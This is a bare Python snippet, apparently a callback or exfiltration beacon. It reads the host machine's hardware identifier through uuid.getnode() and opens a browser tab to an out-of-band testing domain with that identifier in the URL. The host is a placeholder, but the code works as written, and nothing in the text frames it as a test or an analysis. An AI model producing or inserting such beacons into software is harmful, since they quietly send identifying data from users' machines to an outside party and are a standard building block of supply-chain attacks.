import uuid
import webbrowser
webbrowser.open_new_tab("https://c1234567890.oast.example.invalid/?id=" + str(uuid.getnode()))
